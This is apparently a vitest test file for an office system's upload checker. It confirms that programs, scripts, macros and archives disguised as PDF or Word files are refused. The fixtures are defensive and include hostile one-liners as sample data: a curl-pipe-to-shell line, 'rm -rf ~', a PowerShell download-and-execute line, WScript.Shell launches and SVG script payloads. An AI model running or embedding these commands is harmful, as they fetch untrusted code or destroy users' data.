import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import {
  makeDocx,
  makeDocxCarrying,
  makeExe,
  makeExeWithPdfHeader,
  makeHta,
  makeJar,
  makeOdf,
  makePdf,
  makeZip,
  sampleFile,
} from '../../test/files';
import { DomainError } from '../http/errors';
import { FILE_KINDS } from './content-type';
import { judgeFile } from './judge';
import { createPdfReader, type PdfReader } from './pdf-reader';

const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'vanphong-judge-'));
afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));

let n = 0;
function onDisk(bytes: Buffer | string): string {
  const file = path.join(dir, `f${n++}`);
  fs.writeFileSync(file, bytes);
  return file;
}

const reader = createPdfReader();
afterAll(() => reader.close());
const judge = (bytes: Buffer | string, name: string, pdf: PdfReader = reader) =>
  judgeFile(onDisk(bytes), name, { allowed: FILE_KINDS, pdf });

async function refused(bytes: Buffer | string, name: string, pdf: PdfReader = reader) {
  const error = await judge(bytes, name, pdf).then(
    () => null,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(DomainError);
  const { code, status, message } = error as DomainError;
  expect(message).toMatch(/[ệốạảờ]/);
  return { code, status };
}

const program = { code: 'files.program_refused', status: 415 };

describe('judging a file that enters the office', () => {
  it('refuses a Windows program with a PDF header in its first kilobyte, named invoice.scr', async () => {
    const exe = makeExeWithPdfHeader();
    expect(exe.indexOf('%PDF-')).toBeLessThan(1024);
    expect(await refused(exe, 'invoice.scr')).toEqual(program);
    expect(await refused(exe, 'Hóa đơn.pdf')).toEqual(program);
  });

  it('refuses a web page (HTA) with a PDF header, named page.hta or anything else', async () => {
    expect(await refused(makeHta(), 'page.hta')).toEqual(program);
    expect(await refused(makeHta(), 'Công văn.pdf')).toEqual(program);
    expect(await refused('\ufeff<!DOCTYPE html><p>Xin chào</p>', 'trang.html')).toEqual(program);
    expect(await refused('%PDF-1.4\n<svg onload="alert(1)"></svg>', 'anh.svg')).toEqual(program);
  });

  it('renames a DOCX named app.jar to app.docx, and says so in Vietnamese', async () => {
    const judged = await judge(makeDocx(['Báo cáo']), 'app.jar');
    expect(judged.type.kind).toBe('docx');
    expect(judged.fileName).toBe('app.docx');
    expect(judged.warnings).toEqual([
      {
        code: 'files.renamed',
        message: 'Tệp "app.jar" thực chất là Word (.docx), nên đã được đổi tên thành "app.docx" cho đúng loại tệp.',
      },
    ]);
    expect(judged.content.text).toBe('bao cao');
  });

  it('refuses a Java archive, whatever it is called', async () => {
    expect(await refused(makeJar(), 'app.jar')).toEqual(program);
    expect(await refused(makeJar(), 'Tờ trình.docx')).toEqual(program);
    // A class alone, without a manifest.
    expect(await refused(makeZip([{ name: 'a/B.class', data: 'x' }]), 'a.zip')).toEqual(program);
    expect(await refused(Buffer.from('cafebabe00000034', 'hex'), 'Main.pdf')).toEqual(program);
  });

  it('refuses a DOCX that carries a program, by the entry name or by its first bytes', async () => {
    expect(await refused(makeDocxCarrying('word/embeddings/setup.exe'), 'Báo cáo.docx')).toEqual(program);
    expect(await refused(makeDocxCarrying('word/media/image1.png'), 'Báo cáo.docx')).toEqual(program);
    const script = Buffer.from('#!/bin/sh\ncurl http://x | sh\n');
    expect(await refused(makeDocxCarrying('customXml/item9.xml', script), 'Báo cáo.docx')).toEqual(program);
    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
    expect(await refused(makeDocxCarrying('word/media/image2.svg', svg), 'Báo cáo.docx')).toEqual(program);
    // An ODF document with a Basic macro module.
    const odtMacro = makeZip([
      { name: 'mimetype', data: 'application/vnd.oasis.opendocument.text', stored: true },
      { name: 'content.xml', data: '<office:document-content/>' },
      { name: 'Basic/Standard/Module1.xml', data: '<script:module>Sub Main</script:module>' },
    ]);
    expect(await refused(odtMacro, 'Văn bản.odt')).toEqual(program);
    // What Word and LibreOffice put in ordinary files passes.
    const picture = makeDocxCarrying('word/media/image1.png', sampleFile('png'));
    expect((await judge(picture, 'Báo cáo.docx')).type.kind).toBe('docx');
    expect((await judge(makeOdf('odt'), 'Văn bản.odt')).type.kind).toBe('odt');
  });

  it('refuses a program carried in an archive that an office file carries, and takes embedded workbooks', async () => {
    const zipWithExe = makeZip([
      { name: 'doc-kem.txt', data: 'Xem tệp kèm' },
      { name: 'setup.exe', data: makeExe() },
    ]);
    expect(await refused(makeDocxCarrying('word/embeddings/tai-lieu.zip', zipWithExe), 'Báo cáo.docx')).toEqual(
      program,
    );
    // Stored rather than deflated, and under a harmless name, the program found by its bytes.
    const zipWithHiddenExe = makeZip([{ name: 'anh.dat', data: makeExe(), stored: true }]);
    expect(await refused(makeDocxCarrying('word/embeddings/oleObject1.bin', zipWithHiddenExe), 'a.docx')).toEqual(
      program,
    );
    // Two levels down: a DOCX inside a DOCX inside a DOCX.
    const deep = makeDocxCarrying('word/embeddings/b.docx', makeDocxCarrying('word/embeddings/c.zip', zipWithExe));
    expect(await refused(deep, 'a.docx')).toEqual(program);
    // Nested deeper than any office file is: not looked into, so not taken.
    let nested = makeZip([{ name: 'a.txt', data: 'x' }]);
    for (let i = 0; i < 4; i++) nested = makeZip([{ name: `z${i}.zip`, data: nested }]);
    expect(await refused(makeDocxCarrying('word/embeddings/z.zip', nested), 'a.docx')).toEqual(program);
    // An ordinary embedded workbook passes.
    const chart = makeDocxCarrying('word/embeddings/Microsoft_Excel_Worksheet.xlsx', sampleFile('xlsx'));
    expect((await judge(chart, 'Báo cáo.docx')).type.kind).toBe('docx');
  });

  it('refuses programs and scripts by their bytes, whatever they are called', async () => {
    const cases: [string, Buffer | string][] = [
      ['Linux program', Buffer.concat([Buffer.from('7f454c46020101', 'hex'), Buffer.alloc(60)])],
      ['macOS program', Buffer.concat([Buffer.from('cffaedfe07000001', 'hex'), Buffer.alloc(60)])],
      ['shell script', '#!/bin/bash\nrm -rf ~\n'],
      ['batch file', '@echo off\r\nstart calc.exe\r\n'],
      ['PowerShell', '$c = New-Object Net.WebClient\nInvoke-Expression $c.DownloadString("http://x")\n'],
      ['VBScript', 'Set s = CreateObject("WScript.Shell")\ns.Run "calc"\n'],
      ['JavaScript', 'var s = new ActiveXObject("WScript.Shell");\ns.Run("calc");\n'],
      ['a program without a PDF header', makeExe()],
    ];
    for (const [what, bytes] of cases) {
      expect({ what, ...(await refused(bytes, 'Công văn.pdf')) }).toEqual({ what, ...program });
    }
  });

  it('refuses a file that starts like a PDF but does not open as one', async () => {
    const damaged = { code: 'files.pdf_damaged', status: 415 };
    expect(await refused(Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc(200, 0x41)]), 'a.pdf')).toEqual(
      damaged,
    );
    expect(await refused('%PDF-1.7\n', 'rong.pdf')).toEqual(damaged);
  });

  it('takes a PDF whose header is not at the first byte, as received, and says so', async () => {
    const original = makePdf('Nghị quyết');
    const prefixed = Buffer.concat([Buffer.alloc(300, 0x20), original]);
    const judged = await judge(prefixed, 'Nghị quyết.pdf');
    expect(judged.type.kind).toBe('pdf');
    expect(judged.fileName).toBe('Nghị quyết.pdf');
    expect(judged.warnings.map((w) => w.code)).toEqual(['files.pdf_header_moved']);
    expect(judged.warnings[0]?.message).toContain('300 byte');
    expect(judged.content.text).toBe('nghi quyet');
  });

  it('when every PDF reading is busy, takes a whole PDF without its text and refuses a truncated one', async () => {
    const busy: PdfReader = {
      read: async () => ({ outcome: 'busy' }),
      load: () => ({ running: 2, waiting: 0 }),
      workers: () => ({ started: 0, alive: 0 }),
      close: async () => {},
    };
    const judged = await judge(makePdf('Nghị quyết'), 'a.pdf', busy);
    expect(judged.type.kind).toBe('pdf');
    expect(judged.content.text).toBeNull();
    expect(judged.warnings.map((w) => w.code)).toEqual(['files.text_not_read']);
    const whole = makePdf('Nghị quyết');
    expect(await refused(whole.subarray(0, whole.length / 2), 'a.pdf', busy)).toEqual({
      code: 'files.pdf_damaged',
      status: 415,
    });
  });
});
